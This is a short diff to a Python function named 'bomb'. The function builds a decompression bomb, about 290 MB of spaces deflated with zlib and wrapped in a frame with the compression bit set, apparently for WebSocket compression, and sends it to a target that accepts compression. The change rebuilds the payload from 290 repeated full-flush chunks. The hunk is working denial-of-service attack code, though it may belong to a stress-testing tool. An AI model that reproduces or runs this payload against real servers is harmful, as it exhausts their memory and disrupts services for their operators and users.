@@ -172,7 +172,7 @@ def bomb(target: Target, seconds: float) -> Report:
     """Compression is offered, and a bomb sent to who takes the offer."""
     report = Report()
     packer = zlib.compressobj(9, zlib.DEFLATED, -15)
-    packed = packer.compress(b" " * 290_000_000) + packer.flush(zlib.Z_SYNC_FLUSH)
+    packed = (packer.compress(b" " * 1_000_000) + packer.flush(zlib.Z_FULL_FLUSH)) * 290
     text = bytearray(frame(packed[:-4]))
     text[0] |= 0x40
     peers = [
